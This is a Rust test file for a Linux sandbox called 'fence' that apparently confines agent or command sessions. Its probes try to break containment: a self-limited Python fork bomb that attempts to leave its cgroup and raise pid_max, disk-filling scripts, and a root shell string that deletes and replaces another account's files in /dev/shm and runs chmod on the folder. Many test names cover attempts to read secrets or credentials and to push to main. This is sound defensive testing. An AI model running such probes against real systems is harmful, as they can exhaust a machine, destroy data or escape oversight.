    // With a network namespace the sandbox has its own loopback; without one the
    // supervisor's loopback table lets it reach the port it bound. The table lists a
    // port's listeners through the kernel's socket diagnostics; a kernel without them
    // (inet_diag and tcp_diag are modules on Debian, loaded on demand) leaves fence
    // unable to tell its own listener from the host's, and it refuses the connect.
    if w.who == support::Who::UnprivilegedWithoutNamespaces && !inet_sock_diag_works() {
        assert_ne!(stdout(&out), "pong\n", "{}", stderr(&out));
        assert!(
            stderr(&out).contains("ConnectionRefusedError"),
            "{}",
            stderr(&out)
        );
        support::skip(
            "without_namespaces::loopback_server_started_inside_is_usable",
            "the kernel answers no inet socket-diagnostics requests (inet_diag, tcp_diag): \
             fence refuses the connect (checked), the loopback table cannot work here",
        );
        return;
    }
    assert_eq!(stdout(&out), "pong\n", "{}", stderr(&out));
}

/// Whether the kernel answers a NETLINK_SOCK_DIAG dump of TCP listeners (what fence's
/// loopback table asks): an NLMSG_ERROR reply (ENOENT without inet_diag/tcp_diag) is no.
fn inet_sock_diag_works() -> bool {
    let probe = "import socket, struct\n\
                 s = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 4)\n\
                 req = struct.pack('=IHHII', 72, 20, 0x301, 1, 0)\n\
                 req += struct.pack('=BBBBI', socket.AF_INET, socket.IPPROTO_TCP, 0, 0, 1 << 10)\n\
                 s.send(req + bytes(48))\n\
                 d = s.recv(65536)\n\
                 t = struct.unpack_from('=H', d, 4)[0]\n\
                 print('no' if t == 2 and struct.unpack_from('=i', d, 16)[0] != 0 else 'yes')\n";
    let out = std::process::Command::new(PYTHON)
        .args(["-c", probe])
        .output()
        .expect("run the socket-diagnostics probe");
    assert!(out.status.success(), "{}", stderr(&out));
    stdout(&out) == "yes\n"
}

/// Processes on the machine, as /proc lists them (the host's pid namespace).
fn machine_process_count() -> usize {
    process_ids().count()
}

/// What a fork bomb under `--max-procs max` did: how many children it made, the errno that
/// stopped it, fence's stderr. Asserts the effects that hold whatever the mechanism: fork
/// failed with EAGAIN below `max`, the machine's process count stayed bounded while it
/// ran, and the sandbox's processes were gone soon after.
fn run_fork_bomb(w: &World, max: usize) -> (usize, String) {
    run_fork_bomb_with(w, max, false)
}

/// [`run_fork_bomb`]; with `read_only_proc_sys`, fence runs in a mount namespace of its own
/// where `/proc/sys` is a read-only bind (as some containers have it).
fn run_fork_bomb_with(w: &World, max: usize, read_only_proc_sys: bool) -> (usize, String) {
    // A runaway spawner, bounded by itself at 2000 so that a broken limit cannot hurt the
    // machine: it first tries to leave its cgroup for any other it can name and to raise
    // its pid namespace's pid_max, then each child sleeps, the parent forks until fork
    // fails, then exits.
    w.write(
        "bomb.py",
        "import os, time, errno, glob\n\
         for p in glob.glob('/sys/fs/cgroup/cgroup.procs') + glob.glob('/sys/fs/cgroup/*/cgroup.procs'):\n\
         \x20   try:\n\
         \x20       open(p, 'w').write('0')\n\
         \x20   except OSError:\n\
         \x20       pass\n\
         try:\n\
         \x20   open('/proc/sys/kernel/pid_max', 'w').write('4194304')\n\
         except OSError:\n\
         \x20   pass\n\
         made, err = 0, None\n\
         for i in range(2000):\n\
         \x20   try:\n\
         \x20       pid = os.fork()\n\
         \x20   except OSError as e:\n\
         \x20       err = e.errno\n\
         \x20       break\n\
         \x20   if pid == 0:\n\
         \x20       time.sleep(4)\n\
         \x20       os._exit(0)\n\
         \x20   made += 1\n\
         print(made, errno.errorcode.get(err, err), flush=True)\n",
    );
    let baseline = machine_process_count();
    let mut command = w.fence(&[
        OsStr::new("--max-procs"),
        OsStr::new(&max.to_string()),
        OsStr::new("--"),
        OsStr::new(PYTHON),
        OsStr::new("bomb.py"),
    ]);
    if read_only_proc_sys {
        command = in_mount_namespace(
            &command,
            "mount -o bind,ro /proc/sys /proc/sys && exec \"$0\" \"$@\"",
        );
    }
    let mut child = command
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let started = Instant::now();
    let mut peak = baseline;
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        peak = peak.max(machine_process_count());
        if started.elapsed() > Duration::from_secs(60) {
            let _ = child.kill();
            let _ = child.wait();
            panic!("fence run of a fork bomb did not end within 60 s");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let out = child.wait_with_output().unwrap();
    let (text, err) = (stdout(&out), stderr(&out));
    assert_eq!(status.code(), Some(0), "{err}");
    let mut fields = text.split_whitespace();
    let made: usize = fields.next().and_then(|n| n.parse().ok()).expect(&err);
    assert!(made < max, "{made} children under --max-procs {max}; {err}");
    assert_eq!(fields.next(), Some("EAGAIN"), "{text} {err}");
    // Generous: other tests run alongside; without the limit this would be ~2000.
    assert!(
        peak < baseline + max + 500,
        "machine went from {baseline} to {peak} processes"
    );
    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        let now = machine_process_count();
        if now < baseline + 100 {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "{now} processes 15 s after the session, {baseline} before"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    (made, err)
}

/// The running kernel's `major.minor`.
fn kernel_version() -> (u32, u32) {
    let release = std::fs::read_to_string("/proc/sys/kernel/osrelease").unwrap();
    let mut parts = release
        .split(|c: char| !c.is_ascii_digit())
        .filter(|p| !p.is_empty())
        .map(|p| p.parse::<u32>().unwrap_or(0));
    (parts.next().unwrap_or(0), parts.next().unwrap_or(0))
}

fn a_fork_bomb_is_contained(w: &World) {
    if !support::python_ready("a_fork_bomb_is_contained") {
        return;
    }
    // Below the kernel's smallest pid_max (301): a session cgroup, or RLIMIT_NPROC.
    let (_, err) = run_fork_bomb(w, 64);
    if w.who == support::Who::Root {
        assert!(err.contains("cgroup pids.max"), "{err}");
    } else {
        assert!(err.contains("RLIMIT_NPROC"), "{err}");
    }
}

fn a_fork_bomb_meets_its_pid_namespaces_own_limit(w: &World) {
    if !support::python_ready("a_fork_bomb_meets_its_pid_namespaces_own_limit") {
        return;
    }
    let host_pid_max = std::fs::read_to_string("/proc/sys/kernel/pid_max").unwrap();
    let (_, err) = run_fork_bomb(w, 400);
    // The machine's pid_max is not the sandbox's to change.
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/pid_max").unwrap(),
        host_pid_max
    );
    let own_pid_namespace =
        w.who != support::Who::UnprivilegedWithoutNamespaces && !err.contains("no mount namespace");
    if kernel_version() >= (6, 14) && own_pid_namespace {
        // Linux 6.14 keeps pid_max per pid namespace: no cgroup, no RLIMIT_NPROC.
        assert!(
            !err.contains("cgroup pids.max") && !err.contains("RLIMIT_NPROC"),
            "{err}"
        );
    } else {
        assert!(
            err.contains("cgroup pids.max") || err.contains("RLIMIT_NPROC"),
            "{err}"
        );
    }
}

/// Where the sandbox's pid_max cannot be set (a read-only /proc/sys), the session starts
/// again with the next limit instead of failing or running without one.
fn a_read_only_proc_sys_falls_back_to_another_process_limit(w: &World) {
    let test = "a_read_only_proc_sys_falls_back_to_another_process_limit";
    if !support::python_ready(test) {
        return;
    }
    if w.who != support::Who::Root {
        // Making the read-only bind takes root; the fallback is the same code for everyone.
        support::skip(test, "needs root to bind /proc/sys read-only");
        return;
    }
    if kernel_version() < (6, 14) {
        support::skip(test, "no per-namespace pid_max before Linux 6.14");
        return;
    }
    let host_pid_max = std::fs::read_to_string("/proc/sys/kernel/pid_max").unwrap();
    let (_, err) = run_fork_bomb_with(w, 400, true);
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/pid_max").unwrap(),
        host_pid_max
    );
    assert!(err.contains("pid_max could not be set"), "{err}");
    assert!(err.contains("cgroup pids.max"), "{err}");
}

fn writing_past_the_tmpdir_size_fails_inside_only(w: &World) {
    if !support::python_ready("writing_past_the_tmpdir_size_fails_inside_only") {
        return;
    }
    w.write(
        "fill.py",
        "import os, errno, time\n\
         tmp = os.environ['TMPDIR']\n\
         n, result = 0, 'no error'\n\
         try:\n\
         \x20   with open(os.path.join(tmp, 'big'), 'wb') as f:\n\
         \x20       for i in range(64):\n\
         \x20           f.write(b'x' * (1 << 20))\n\
         \x20           f.flush()\n\
         \x20           n += 1\n\
         except OSError as e:\n\
         \x20   result = errno.errorcode[e.errno]\n\
         print(result, n, flush=True)\n\
         open('tmpdir-name', 'w').write(tmp)\n\
         for i in range(200):\n\
         \x20   if os.path.exists('go'):\n\
         \x20       break\n\
         \x20   time.sleep(0.05)\n",
    );
    let mut child = w
        .fence(&[
            OsStr::new("--tmp-size"),
            OsStr::new("8M"),
            OsStr::new("--"),
            OsStr::new(PYTHON),
            OsStr::new("fill.py"),
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // While the session lives, the host's TMPDIR holds none of what was written.
    let name_file = w.worktree.join("tmpdir-name");
    let started = Instant::now();
    while !name_file.exists() && started.elapsed() < Duration::from_secs(30) {
        if child.try_wait().unwrap().is_some() {
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let host_big = std::fs::read_to_string(&name_file)
        .ok()
        .map(|name| Path::new(name.trim()).join("big"));
    let seen_on_host = host_big.as_ref().is_some_and(|p| p.exists());
    w.write("go", "");
    let out = child.wait_with_output().unwrap();
    let (text, err) = (stdout(&out), stderr(&out));
    assert_eq!(out.status.code(), Some(0), "{err}");
    if w.who == support::Who::UnprivilegedWithoutNamespaces {
        assert!(err.contains("TMPDIR's size is not limited"), "{err}");
        support::skip(
            "without_namespaces::writing_past_the_tmpdir_size_fails_inside_only",
            "no mount namespace, so no tmpfs: the TMPDIR size is not limited (said on start)",
        );
        return;
    }
    let mut fields = text.split_whitespace();
    assert_eq!(fields.next(), Some("ENOSPC"), "{text} {err}");
    let written: u32 = fields.next().and_then(|n| n.parse().ok()).expect(&text);
    assert!(written <= 8, "{written} MiB written to an 8M TMPDIR");
    assert!(
        host_big.is_some(),
        "the probe did not report its TMPDIR: {err}"
    );
    assert!(!seen_on_host, "the write reached the host's TMPDIR");
}

/// The sandbox's private `/dev/shm` is memory no process owns (the kernel's OOM killer
/// frees none of it by killing the sandbox's processes): with a mount namespace it holds at
/// most `--tmp-size`, as the TMPDIR does, measured from outside on the tmpfs the sandbox
/// wrote to. (Without one `/dev/shm` is the host's, as SPEC §2's device list says.)
fn writing_past_the_tmp_size_in_dev_shm_fails(w: &World) {
    if w.who == support::Who::UnprivilegedWithoutNamespaces {
        support::skip(
            "without_namespaces::writing_past_the_tmp_size_in_dev_shm_fails",
            "no mount namespace: /dev/shm is the host's",
        );
        return;
    }
    w.write(
        "fill.sh",
        "head -c 64M /dev/zero > /dev/shm/big 2>/dev/null\necho $? > filled\nwhile [ ! -e go ]; do sleep 0.05; done\n",
    );
    let mut child = w
        .fence(&[
            OsStr::new("--tmp-size"),
            OsStr::new("8M"),
            OsStr::new("--"),
            OsStr::new("/bin/sh"),
            OsStr::new("fill.sh"),
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait_for_file(w, &mut child, "filled");
    // The shell that wrote, found from outside by its working directory and script.
    let shell = process_ids().find(|p| {
        std::fs::read_link(format!("/proc/{p}/cwd")).is_ok_and(|c| c == w.worktree)
            && std::fs::read(format!("/proc/{p}/cmdline"))
                .is_ok_and(|c| c.starts_with(b"/bin/sh\0fill.sh\0"))
    });
    let used = shell.as_ref().and_then(|pid| {
        let path = std::ffi::CString::new(format!("/proc/{pid}/root/dev/shm")).unwrap();
        // SAFETY: statvfs fills a zeroed struct from a NUL-terminated path.
        unsafe {
            let mut fs: libc::statvfs = std::mem::zeroed();
            (libc::statvfs(path.as_ptr(), &mut fs) == 0)
                .then(|| (fs.f_blocks - fs.f_bfree) as u64 * fs.f_frsize as u64)
        }
    });
    let own_shm = shell.as_ref().is_some_and(|pid| {
        std::fs::read_link(format!("/proc/{pid}/ns/mnt")).ok()
            != std::fs::read_link("/proc/self/ns/mnt").ok()
    });
    w.write("go", "");
    let out = child.wait_with_output().unwrap();
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert!(!err.contains("no mount namespace"), "{err}");
    assert!(
        own_shm,
        "the writer was not found in a mount namespace ({shell:?}, {used:?}): {err}"
    );
    let used = used.expect("statvfs of the sandbox's /dev/shm");
    assert!(
        used <= 9 << 20,
        "{used} bytes in the sandbox's /dev/shm under --tmp-size 8M"
    );
    assert!(
        !Path::new("/dev/shm/big").exists(),
        "written to the host's /dev/shm"
    );
}

both_ways!(
    a_git_file_naming_a_folder_outside_opens_nothing,
    a_shell_strings_eval_and_source_run_under_the_fence,
    hook_managers_configs_and_agent_hook_scripts_are_protected,
    protected_names_hold_in_any_case_and_for_more_agents,
    a_rebase_left_stopped_with_commands_queued_is_told,
    a_protected_file_with_another_name_is_protected_by_both,
    a_stderr_that_never_drains_holds_up_no_notified_call,
    write_by_absolute_path_outside_is_blocked_with_a_reason,
    an_interactive_shells_history_is_kept_in_the_worktrees_cache_folder,
    xargs_with_a_placeholder_in_a_shell_string_runs,
    a_push_to_main_built_by_xargs_is_refused,
    write_through_dotdot_is_blocked,
    mkdir_of_a_folder_outside_that_exists_says_it_exists,
    write_through_symlinks_made_inside_is_blocked,
    hardlink_to_an_outside_file_is_refused,
    a_hardlink_made_before_the_session_is_written_as_a_private_copy,
    a_hard_link_written_from_a_kept_cwd_is_still_a_private_copy,
    a_shared_file_cannot_be_reached_through_its_descriptor,
    unnamed_files_are_made_and_named_where_the_fence_allows,
    an_unnamed_file_made_outside_cannot_be_named_in_the_worktree,
    rename_out_of_and_into_the_worktree_is_refused,
    metadata_and_truncate_outside_are_refused,
    metadata_inside_the_worktree_still_works,
    proc_self_root_and_proc_cwd_tricks_are_blocked,
    o_path_dirfd_outside_then_openat_is_blocked,
    io_uring_ptrace_and_tiocsti_are_refused,
    exit_status_and_signals_pass_through,
    an_exec_with_as_many_arguments_as_the_kernel_takes_runs,
    a_trailing_slash_or_a_file_on_the_way_fails_as_bare,
    git_init_makes_a_repository_whose_hooks_and_config_stay_protected,
    an_archive_of_other_owners_unpacks,
    a_program_directory_repointed_in_the_worktree_is_followed_anew,
    a_signal_sent_to_fence_reaches_the_command,
    an_ignored_sigchld_inherited_from_the_parent_changes_nothing,
    fence_sigkill_leaves_nothing_running,
    a_process_group_sigkill_of_fence_leaves_nothing_running,
    background_processes_are_gone_when_fence_returns,
    capability_sets_of_the_sandbox_are_empty,
    no_notification_listener_reaches_the_sandbox,
    secrets_under_home_are_unreadable,
    secrets_are_unreadable_through_other_mounts_of_their_folders,
    an_earlier_name_of_a_folder_above_a_secret_keeps_its_mounts_readable,
    processes_left_running_are_killed_and_counted_when_the_command_ends,
    tool_state_files_in_the_home_are_refused_without_a_question,
    kerberos_ticket_caches_are_unreadable,
    a_folder_holding_a_secret_is_not_moved,
    a_linked_worktree_reads_none_of_the_other_checkouts,
    a_main_checkout_keeps_its_linked_worktrees_state,
    a_push_sent_to_main_by_a_moved_home_is_refused,
    a_push_of_another_repositorys_head_is_refused,
    a_secret_made_during_the_session_stays_unreadable,
    secrets_named_in_the_config_are_unreadable,
    fences_own_config_cannot_be_written_from_the_sandbox,
    the_sandbox_serves_no_session_in_any_socket_folder,
    a_secret_the_host_replaces_during_the_session_stays_unreadable,
    a_secret_outside_home_replaced_or_relinked_on_the_host_stays_unreadable,
    root_only_files_in_etc_are_unreadable_to_every_session,
    a_device_node_outside_dev_gives_no_device,
    a_directory_descriptor_from_outside_reaches_no_secret,
    a_read_only_host_mount_inside_the_worktree_stays_read_only,
    without_a_session_terminal_dev_tty_reaches_nothing,
    refusals_hidden_while_the_program_held_the_terminal_are_said_at_the_end,
    the_sandboxs_first_process_holds_nothing_of_the_supervisors,
    a_raw_disk_is_unreadable,
    truncation_inside_works_and_a_protected_file_made_later_is_kept,
    a_thread_swapping_the_path_never_truncates_a_protected_file,
    pseudo_terminals_work_and_no_host_terminal_is_reachable,
    the_users_terminal_keeps_its_line_discipline_and_open_mode,
    a_terminals_answers_to_the_sandbox_never_reach_the_shell,
    o_async_turned_on_with_fcntl_sends_no_signal_in_fences_name,
    a_terminals_signals_never_reach_the_foreground_job_outside,
    a_session_sent_to_the_background_leaves_the_shell_its_terminal,
    a_background_session_cannot_take_the_terminal_from_the_shell,
    a_session_brought_back_with_fg_may_set_up_the_terminal_again,
    every_terminal_handed_to_the_sandbox_gets_its_settings_back,
    the_sandbox_taking_the_terminal_neither_stops_fence_nor_keeps_it,
    the_hosts_pseudo_terminals_cannot_be_taken,
    refusals_while_fences_stderr_does_not_drain_do_not_grow_fence,
    credentials_are_scrubbed_from_the_environment,
    the_sandbox_keeps_the_open_files_limit_it_was_given,
    tool_caches_live_in_a_folder_of_the_worktrees_own_kept_between_sessions,
    fifos_flags_and_umask_survive_carried_out_opens,
    umask_changes_reach_carried_out_creates,
    writes_follow_every_change_of_the_working_directory,
    writes_read_the_memory_of_the_program_running_after_vfork_and_exec,
    a_kept_cwd_renamed_by_another_session_reaches_no_git_control_file,
    a_descriptor_link_to_a_removed_file_makes_no_file,
    a_write_through_the_callers_own_proc_pid_reaches_its_file,
    a_process_writes_its_own_proc_settings_but_no_others,
    session_tmpdir_is_writable_and_removed,
    tmp_is_private_where_a_mount_namespace_can_be_made,
    session_tmpdir_is_a_private_mount_on_a_dev_shm_directory,
    unix_socket_outside_is_unreachable,
    unix_socket_inside_the_worktree_works,
    a_worktree_moved_away_by_the_host_leaves_the_folder_at_its_path_unwritten,
    a_chmod_that_changes_nothing_runs_over_protected_files,
    an_undumpable_process_keeps_working,
    a_trailing_slash_on_a_symlink_is_judged_as_followed,
    a_racing_bind_never_makes_a_host_socket_reachable,
    a_hidden_npmrc_is_told_once_when_npm_runs,
    a_tracer_is_told_why_it_cannot_trace,
    a_host_socket_in_a_writable_folder_is_unreachable,
    a_host_socket_in_the_worktree_is_unreachable,
    a_secret_in_the_worktree_gets_no_second_name_by_a_racing_path,
    the_approval_sockets_folder_stays_fences_under_allow_write,
    host_loopback_listener_is_unreachable,
    git_push_to_main_from_a_script_is_refused,
    a_bare_git_push_on_main_from_a_script_is_refused,
    a_push_sent_to_main_by_exported_git_settings_is_refused,
    a_push_of_a_symbolic_ref_to_main_is_refused,
    a_push_to_main_through_a_scripts_interpreter_line_is_refused,
    a_push_through_an_interpreter_line_holding_a_nul_is_refused,
    a_push_through_a_chain_of_five_scripts_is_refused,
    a_script_fence_cannot_read_is_refused,
    a_path_folder_the_caller_cannot_search_is_passed_over_quietly,
    a_symlink_swapped_in_for_a_file_moved_into_git_never_stays_there,
    path_calls_with_unknown_flags_fail_as_the_kernel_fails_them,
    a_link_in_the_git_directory_leads_no_write_of_fences_outside,
    a_push_through_a_script_run_from_a_memfd_is_refused,
    a_push_through_a_roundabout_proc_path_to_a_script_is_refused,
    a_push_through_a_full_interpreter_line_is_refused,
    an_unreadable_interpreter_anywhere_in_the_chain_is_refused,
    a_push_through_a_script_at_the_longest_path_is_refused,
    a_bare_push_through_a_chain_of_symbolic_refs_to_main_is_refused,
    a_misspelt_push_to_main_is_refused,
    rm_rf_home_from_a_script_is_refused,
    a_thread_swapping_the_path_never_writes_outside,
    carried_out_creates_leave_the_callers_cpu_affinity_as_it_was,
    builds_and_git_inside_run_as_usual,
    loopback_server_started_inside_is_usable,
    protected_paths_stay_read_only_while_git_commit_works,
    git_stash_cleans_the_tree_while_a_reset_hard_stays_refused,
    git_keeps_branch_bookkeeping_in_its_config_and_nothing_else,
    a_hooks_folder_and_a_config_named_by_the_repositorys_config_are_protected,
    a_git_left_in_the_worktree_is_not_run_by_fences_start,
    programs_the_git_config_names_cannot_be_changed_from_inside,
    scripts_run_inside_substitutions_and_loops_cannot_be_changed_from_inside,
    where_a_protected_link_leads_cannot_be_changed_from_inside,
    no_write_watch_is_refused_while_a_protected_path_is_a_link,
    protected_paths_made_under_no_write_watch_are_moved_aside,
    an_allow_write_repository_keeps_its_hooks_and_config,
    an_allow_write_folder_cannot_be_made_to_run_code_in_the_users_git,
    a_linked_worktree_commits_into_an_allowed_git_directory_but_not_its_hooks,
    the_worktrees_git_stays_when_a_folder_above_it_is_writable,
    a_nested_repository_cannot_be_planted_for_the_users_git,
    rmdir_of_a_full_protected_folder_fails_as_the_kernel_would,
    a_thread_swapping_to_a_missing_envrc_never_creates_it,
    a_thread_swapping_from_a_granted_directory_never_reaches_a_protected_path,
    a_granted_directory_moved_or_replaced_is_still_written,
    a_folder_made_at_the_root_is_a_spare_folder_moved_into_place,
    files_removed_on_the_host_while_a_folder_is_frozen_do_not_stop_the_session,
    a_writable_folder_inside_a_secret_path_is_refused_naming_both,
    a_symlink_in_the_session_tmpdir_is_followed_as_the_sandbox_sees_it,
    a_bind_whose_family_is_swapped_makes_no_socket_file,
    a_hardlink_to_a_protected_file_is_refused,
    a_thread_swapping_to_a_git_hook_never_writes_it,
    no_symlink_is_made_in_a_git_directory_for_the_users_git,
    a_symlink_exchanged_into_place_is_judged_as_one_moved_there,
    a_symlink_hard_linked_to_a_new_name_is_judged_there,
    a_folder_of_settings_cannot_be_swapped_for_a_forged_one,
    a_missing_settings_folder_or_git_cannot_be_linked_into_place,
    a_git_file_cannot_be_pointed_at_another_git_directory,
    no_set_id_program_can_be_left_in_the_worktree,
    inode_flags_outside_cannot_be_changed_through_a_read_only_descriptor,
    file_system_object_ioctls_on_a_read_only_descriptor_are_refused,
    int80_and_x32_calls_kill_the_process,
    first_exec_refused_by_policy_exits_126_and_does_nothing,
    an_in_memory_program_runs_through_its_proc_fd_link,
    udp_and_ipv6_to_the_host_loopback_get_nothing_through,
    fence_inside_fence_refuses_to_start,
    an_interactive_shell_in_tmux_behaves_as_without_fence,
    the_terminal_is_never_handed_to_a_group_outside_the_sandbox,
    the_sandbox_cannot_signal_or_trace_fence,
    the_sandbox_cannot_ask_its_init_to_stop_the_session,
    the_sandbox_cannot_limit_or_renice_processes_outside,
    the_command_runs_under_sched_batch_unless_normal_scheduling_is_asked,
    system_v_ipc_and_message_queues_of_the_host_are_unreachable,
    the_hosts_posix_shared_memory_is_out_of_reach,
    a_worktree_under_dev_shm_is_the_hosts_and_the_rest_private,
    abstract_unix_names_of_the_host_cannot_be_taken,
    a_symlink_swapped_during_chmod_never_changes_an_outside_file,
    a_named_fifo_swapped_behind_a_pipes_descriptor_link_gets_nothing_written,
    metadata_through_descriptors_from_outside_changes_nothing_outside,
    a_thread_swapping_a_descriptor_during_chmod_never_changes_an_outside_file,
    a_path_swapped_to_a_descriptor_link_during_metadata_changes_nothing_outside,
    a_log_handed_in_for_appending_keeps_what_it_held,
    folders_holding_protected_paths_are_not_opened_to_other_accounts,
    a_process_continued_behind_the_prompt_is_stopped_again,
    a_process_continued_after_the_stop_settled_is_stopped_again,
    a_datagram_socket_handed_in_from_outside_is_refused_at_start,
    datagram_to_an_outside_unix_socket_gets_nothing_through,
    a_fork_bomb_is_contained,
    a_fork_bomb_meets_its_pid_namespaces_own_limit,
    a_read_only_proc_sys_falls_back_to_another_process_limit,
    writing_past_the_tmpdir_size_fails_inside_only,
    writing_past_the_tmp_size_in_dev_shm_fails,
    a_head_made_a_fifo_or_a_link_to_dev_zero_neither_stalls_nor_swells_fence,
    a_sandbox_at_fences_thread_limit_gets_refusals_not_a_dead_supervisor,
);

#[test]
fn python_probe_interpreter_is_present_or_skipped_loudly() {
    // Most tests drive syscalls through Python: say so once if it is missing.
    if !Path::new(PYTHON).exists() {
        support::skip(
            "run_fence",
            "/usr/bin/python3 is missing: the Python-driven tests fail",
        );
    }
}

/// `command` run by `script` (`sh -c`, with the command as `"$0" "$@"`) in a mount
/// namespace of its own, with the same working directory and environment: a root test
/// changes mounts there that the rest of the machine does not see.
fn in_mount_namespace(command: &std::process::Command, script: &str) -> std::process::Command {
    let mut wrapped = std::process::Command::new("unshare");
    wrapped
        .args([
            "--mount",
            "--propagation",
            "private",
            "/bin/sh",
            "-c",
            script,
        ])
        .arg(command.get_program())
        .args(command.get_args());
    if let Some(dir) = command.get_current_dir() {
        wrapped.current_dir(dir);
    }
    for (k, v) in command.get_envs() {
        match v {
            Some(v) => wrapped.env(k, v),
            None => wrapped.env_remove(k),
        };
    }
    wrapped
}

/// A root session without namespaces writes the host's `/dev/shm`, which root owns: the
/// sticky bit does not keep its owner from removing or replacing another account's file
/// there, and a `chmod` would close it to every account for good. The sandbox keeps its own
/// files there; the folder itself and the other accounts' files stay as they were. A
/// `/dev/shm` of the test's own (a tmpfs in a mount namespace the test makes) stands for
/// the host's; it is looked at after the session, from outside the sandbox.
#[test]
fn a_root_session_without_namespaces_leaves_dev_shm_and_other_accounts_files_alone() {
    let test = "a_root_session_without_namespaces_leaves_dev_shm_and_other_accounts_files_alone";
    let Some(w) = World::new(test, support::Who::Root) else {
        return;
    };
    // Below ABI 6 fence needs pid and network namespaces for signals and abstract
    // sockets, and refuses without them (run_kernel tests that refusal).
    if support::effective_landlock_abi() < 6 {
        support::skip(
            test,
            "Landlock ABI below 6 without namespaces: fence run refuses (tested in run_kernel)",
        );
        return;
    }
    let fence = w.fence(&[
        "--".as_ref(),
        "/bin/sh".as_ref(),
        "-c".as_ref(),
        "rm -f /dev/shm/other; echo x > /dev/shm/evil; mv -f /dev/shm/evil /dev/shm/other2; \
         chmod 0700 /dev/shm; touch -d 2001-01-01 /dev/shm; \
         echo mine > /dev/shm/mine && rm /dev/shm/mine && echo removed-own"
            .as_ref(),
    ]);
    let script = "mount -t tmpfs -o mode=1777 tmpfs /dev/shm || exit 90
        for f in other other2; do echo theirs > /dev/shm/$f; chown 65534:65534 /dev/shm/$f; chmod 600 /dev/shm/$f; done
        touch -d 2020-01-01 /dev/shm
        FENCE_NO_NAMESPACES=1 \"$0\" \"$@\"
        echo \"after: $(stat -c '%a %Y' /dev/shm) $(ls /dev/shm | tr '\\n' ' ')$(stat -c '%U' /dev/shm/other2) $(cat /dev/shm/other2)\"";
    let mut wrapped = in_mount_namespace(&fence, script);
    wrapped.current_dir(&w.worktree);
    let out = wrapped.output().unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    if out.status.code() == Some(90) {
        support::skip(
            test,
            "a tmpfs cannot be mounted on /dev/shm in a mount namespace here",
        );
        return;
    }
    let after = text
        .lines()
        .find_map(|l| l.strip_prefix("after: "))
        .unwrap_or_else(|| panic!("no state read after the session: {text}"));
    let words: Vec<&str> = after.split_whitespace().collect();
    // The folder's mode is the same; its times moved only by the names the sandbox made
    // and removed (not to 2001, 978307200); the other account's files are there, theirs.
    assert_eq!(words.first(), Some(&"1777"), "{text}");
    assert_ne!(words.get(1), Some(&"978307200"), "{text}");
    assert!(
        words.contains(&"other") && words.contains(&"other2"),
        "{text}"
    );
    assert!(after.ends_with("nobody theirs"), "{text}");
    assert!(text.contains("removed-own"), "{text}");
    assert!(
        text.contains("another account's file in the host's /dev/shm"),
        "{text}"
    );
}

/// A connect fence makes for the sandbox carries fence's own credentials, so an approval
/// socket is never opened with `--allow-unix`: the session does not start.
#[test]
fn allow_unix_cannot_open_an_approval_socket() {
    let Some(w) = World::new(
        "allow_unix_cannot_open_an_approval_socket",
        support::Who::Root,
    ) else {
        return;
    };
    let runtime = w.outside.join("runtime");
    std::fs::create_dir_all(runtime.join("fence")).unwrap();
    let socket = runtime.join("fence/session.sock");
    let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    let marker = w.worktree.join("ran");
    let out = w
        .fence(&[
            "--allow-unix".as_ref(),
            socket.as_os_str(),
            "--".as_ref(),
            "/bin/sh".as_ref(),
            "-c".as_ref(),
            "echo ran > ran".as_ref(),
        ])
        .env("XDG_RUNTIME_DIR", &runtime)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("approval sockets cannot be opened"),
        "{}",
        stderr(&out)
    );
    assert!(!marker.exists());
}
